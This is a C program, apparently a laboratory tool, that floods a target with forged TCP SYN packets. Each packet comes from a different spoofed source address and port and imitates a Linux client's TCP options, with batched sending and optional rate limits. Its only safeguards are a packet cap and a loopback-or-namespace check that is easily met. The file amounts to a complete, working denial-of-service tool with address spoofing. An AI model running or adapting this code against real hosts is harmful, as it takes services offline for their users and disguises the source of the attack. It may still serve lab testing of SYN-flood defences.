/* The flood of the laboratory: initial SYNs as a Linux client sends them (MSS, SACK, timestamps,
 * window scale), each from another spoofed address and port, so that every one is a connection of
 * its own.
 *
 *   syn-flood -d ADDRESS -p PORT[,PORT...] -s NETWORK/BITS -c COUNT [-r SYNS_A_SECOND] [-t SECONDS]
 * [-S SEED]
 *
 * Without -r it sends as fast as it can. It ends after COUNT SYNs (2,000,000 at the most), after
 * SECONDS, or on SIGTERM, and prints "sent N seconds S rate R". In the initial network namespace it
 * refuses every destination but the loopback. The same seed sends the same connections again.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
  COUNT_MAX = 2000000,
  PORTS_MAX = 16,
  BATCH_SYNS = 64,
  OPTION_BYTES = 20,
  TICK_NANOSECONDS = 1000000,
  /* After a pause (the machine is shared) at most this much is made up for, so that no burst stands
     in for a rate. */
  CATCH_UP_TICKS = 4,
  SOURCE_PORT_FIRST = 1024,
  SOURCE_PORTS = 65536 - SOURCE_PORT_FIRST,
  NETWORK_BITS_MIN = 8,
};

struct options {
  in_addr_t destination;
  uint16_t ports[PORTS_MAX];
  unsigned port_count;
  uint32_t source_base;
  uint64_t source_hosts;
  uint64_t count;
  uint64_t rate;
  double seconds;
  uint64_t seed;
};

struct syn {
  struct iphdr ip;
  struct tcphdr tcp;
  uint8_t option[OPTION_BYTES];
} __attribute__((packed));

static volatile sig_atomic_t stopped;

static void stop(int signal_number) {
  (void)signal_number;
  stopped = 1;
}

static uint64_t now_nanoseconds(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (uint64_t)time.tv_sec * 1000000000U + (uint64_t)time.tv_nsec;
}

/* SplitMix64: sequence numbers and time stamps that differ, and come again with the same seed. */
static uint64_t mixed(uint64_t value) {
  value += 0x9E3779B97F4A7C15U;
  value = (value ^ (value >> 30)) * 0xBF58476D1CE4E5B9U;
  value = (value ^ (value >> 27)) * 0x94D049BB133111EBU;
  return value ^ (value >> 31);
}

/* The SYNs walk the space of addresses and ports in steps that share no factor with its size (2^n *
 * 3^2 * 7), so none comes twice and neighbours lie far apart. */
static uint64_t stride_of(uint64_t space) {
  uint64_t stride = (uint64_t)((double)space * 0.6180339887) | 1U;
  while (stride % 3 == 0 || stride % 7 == 0) stride += 2;
  return stride;
}

static uint32_t sum_of(const void* bytes, size_t length, uint32_t sum) {
  const uint16_t* words = bytes;
  for (size_t i = 0; i < length / 2; ++i) {
    uint16_t word;
    memcpy(&word, words + i, sizeof word);
    sum += word;
  }
  return sum;
}

static uint16_t folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xFFFFU) + (sum >> 16);
  return (uint16_t)~sum;
}

static void fill(struct syn* syn, const struct options* options, uint64_t index) {
  const uint64_t space = options->source_hosts * SOURCE_PORTS;
  const uint64_t place = (mixed(options->seed) % space + index * stride_of(space)) % space;
  const uint64_t chance = mixed(options->seed + index);
  const uint32_t time_stamp = htonl((uint32_t)(chance >> 32));
  memset(syn, 0, sizeof *syn);
  syn->ip.version = 4;
  syn->ip.ihl = sizeof syn->ip / 4;
  syn->ip.tot_len = htons(sizeof *syn);
  syn->ip.id = htons((uint16_t)(chance >> 16 | 1U));
  syn->ip.frag_off = htons(IP_DF);
  syn->ip.ttl = 64;
  syn->ip.protocol = IPPROTO_TCP;
  syn->ip.saddr = htonl(options->source_base + (uint32_t)(place / SOURCE_PORTS));
  syn->ip.daddr = options->destination;
  syn->tcp.source = htons((uint16_t)(SOURCE_PORT_FIRST + place % SOURCE_PORTS));
  syn->tcp.dest = htons(options->ports[index % options->port_count]);
  syn->tcp.seq = htonl((uint32_t)chance);
  syn->tcp.doff = (sizeof syn->tcp + OPTION_BYTES) / 4;
  syn->tcp.syn = 1;
  syn->tcp.window = htons(64240);
  /* MSS 1460, SACK permitted, time stamps, NOP, window scale 7: a Linux client's. */
  static const uint8_t option[OPTION_BYTES] = {2, 4, 0x05, 0xB4, 4, 2, 8, 10, 0, 0,
                                               0, 0, 0,    0,    0, 0, 1, 3,  3, 7};
  memcpy(syn->option, option, sizeof option);
  memcpy(syn->option + 8, &time_stamp, sizeof time_stamp);
  uint32_t sum =
      sum_of(&syn->ip.saddr, 8, htons(IPPROTO_TCP) + htons(sizeof syn->tcp + OPTION_BYTES));
  syn->tcp.check = folded(sum_of(&syn->tcp, sizeof syn->tcp + OPTION_BYTES, sum));
}

/* Answers how many were sent, -1 when the socket refuses for good. */
static int send_batch(int descriptor, const struct options* options, uint64_t first,
                      unsigned wanted) {
  static struct syn syns[BATCH_SYNS];
  static struct iovec vectors[BATCH_SYNS];
  static struct mmsghdr messages[BATCH_SYNS];
  static struct sockaddr_in to = {.sin_family = AF_INET};
  to.sin_addr.s_addr = options->destination;
  for (unsigned i = 0; i < wanted; ++i) {
    fill(&syns[i], options, first + i);
    vectors[i] = (struct iovec){.iov_base = &syns[i], .iov_len = sizeof syns[i]};
    messages[i].msg_hdr = (struct msghdr){
        .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
  }
  const int sent = sendmmsg(descriptor, messages, wanted, 0);
  if (sent < 0 && (errno == ENOBUFS || errno == EAGAIN || errno == EINTR)) return 0;
  return sent;
}

static void sleep_until(uint64_t nanoseconds) {
  const struct timespec time = {.tv_sec = (time_t)(nanoseconds / 1000000000U),
                                .tv_nsec = (long)(nanoseconds % 1000000000U)};
  clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &time, NULL);
}

/* How many may go now; at a rate, SYNs fall due with every tick. */
static uint64_t allowance(const struct options* options, uint64_t elapsed, uint64_t* forgone,
                          uint64_t sent) {
  if (options->rate == 0) return BATCH_SYNS;
  const uint64_t due = (uint64_t)((double)elapsed * (double)options->rate / 1e9);
  const uint64_t most = options->rate * CATCH_UP_TICKS / 1000 + 1;
  if (due > sent + *forgone + most) *forgone = due - sent - most;
  return due - sent - *forgone;
}

static int flood(int descriptor, const struct options* options) {
  const uint64_t started = now_nanoseconds();
  const uint64_t time_limit = (uint64_t)(options->seconds * 1e9);
  uint64_t sent = 0, forgone = 0, elapsed = 0;
  for (uint64_t tick = 1; !stopped && sent < options->count; ++tick) {
    elapsed = now_nanoseconds() - started;
    if (elapsed >= time_limit) break;
    uint64_t due = allowance(options, elapsed, &forgone, sent);
    if (due > options->count - sent) due = options->count - sent;
    while (due > 0 && !stopped) {
      const int went =
          send_batch(descriptor, options, sent, due < BATCH_SYNS ? (unsigned)due : BATCH_SYNS);
      if (went < 0) {
        perror("syn-flood: send");
        return 1;
      }
      sent += (uint64_t)went;
      due -= (uint64_t)went;
    }
    if (options->rate == 0) continue;
    const uint64_t next = started + tick * TICK_NANOSECONDS;
    if (next > now_nanoseconds())
      sleep_until(next);
    else
      tick = (now_nanoseconds() - started) / TICK_NANOSECONDS;
  }
  const double seconds = (double)(now_nanoseconds() - started) / 1e9;
  printf("sent %llu seconds %.3f rate %.0f\n", (unsigned long long)sent, seconds,
         (double)sent / seconds);
  return 0;
}

/* A flood belongs into a namespace that was made for it. The kernel shows its global settings in
 * the initial one only, and those of a namespace everywhere; where neither can be seen, better not.
 */
static bool in_initial_namespace(void) {
  return access("/proc/sys/net/core/netdev_max_backlog", F_OK) == 0 ||
         access("/proc/sys/net/core/somaxconn", F_OK) != 0;
}

static bool read_ports(struct options* options, char* text) {
  for (char* word = strtok(text, ","); word != NULL; word = strtok(NULL, ",")) {
    const long port = strtol(word, NULL, 10);
    if (port < 1 || port > 65535 || options->port_count == PORTS_MAX) return false;
    options->ports[options->port_count++] = (uint16_t)port;
  }
  return options->port_count > 0;
}

static bool read_sources(struct options* options, char* text) {
  char* slash = strchr(text, '/');
  if (slash == NULL) return false;
  *slash = 0;
  struct in_addr network;
  const long bits = strtol(slash + 1, NULL, 10);
  if (inet_pton(AF_INET, text, &network) != 1 || bits < NETWORK_BITS_MIN || bits > 32) return false;
  options->source_hosts = 1ULL << (32 - bits);
  options->source_base = ntohl(network.s_addr) & ~(uint32_t)(options->source_hosts - 1);
  return true;
}

static bool read_options(struct options* options, int argc, char** argv) {
  struct in_addr destination = {0};
  bool right = true;
  for (int option; (option = getopt(argc, argv, "d:p:s:c:r:t:S:")) != -1;) {
    if (option == 'd')
      right &= inet_pton(AF_INET, optarg, &destination) == 1;
    else if (option == 'p')
      right &= read_ports(options, optarg);
    else if (option == 's')
      right &= read_sources(options, optarg);
    else if (option == 'c')
      options->count = strtoull(optarg, NULL, 10);
    else if (option == 'r')
      options->rate = strtoull(optarg, NULL, 10);
    else if (option == 't')
      options->seconds = strtod(optarg, NULL);
    else if (option == 'S')
      options->seed = strtoull(optarg, NULL, 10);
    else
      right = false;
  }
  options->destination = destination.s_addr;
  return right && optind == argc && destination.s_addr != 0 && options->port_count > 0 &&
         options->source_hosts > 0 && options->count > 0 && options->count <= COUNT_MAX &&
         options->seconds > 0;
}

int main(int argc, char** argv) {
  struct options options = {.seconds = 60, .seed = 1};
  if (!read_options(&options, argc, argv)) {
    fprintf(stderr,
            "usage: syn-flood -d ADDRESS -p PORT[,PORT...] -s NETWORK/BITS -c COUNT (at most %d)\n"
            "                 [-r SYNS_A_SECOND] [-t SECONDS] [-S SEED]\n",
            COUNT_MAX);
    return 2;
  }
  if (in_initial_namespace() && ntohl(options.destination) >> 24 != 127) {
    fprintf(stderr, "syn-flood: runs in a network namespace of its own, or toward the loopback\n");
    return 1;
  }
  struct sigaction action = {.sa_handler = stop};
  sigaction(SIGTERM, &action, NULL);
  sigaction(SIGINT, &action, NULL);
  const int descriptor = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (descriptor < 0) {
    perror("syn-flood: socket");
    return 1;
  }
  const int result = flood(descriptor, &options);
  close(descriptor);
  return result;
}
